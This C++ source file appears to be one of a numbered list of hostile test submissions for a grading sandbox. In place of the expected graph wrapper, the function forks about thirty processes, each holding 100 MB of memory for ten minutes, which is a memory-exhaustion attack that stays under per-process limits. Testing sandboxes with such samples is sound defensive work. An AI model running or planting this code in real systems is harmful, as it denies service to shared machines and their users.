// attack: exhaust
// what: takes memory in thirty processes, each below the limit
// list: 9
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (int child = 0; child < 30 && fork() != 0; child++) {
  }
  if (void* more = malloc(100 << 20)) memset(more, 1, 100 << 20);
  sleep(600);
}
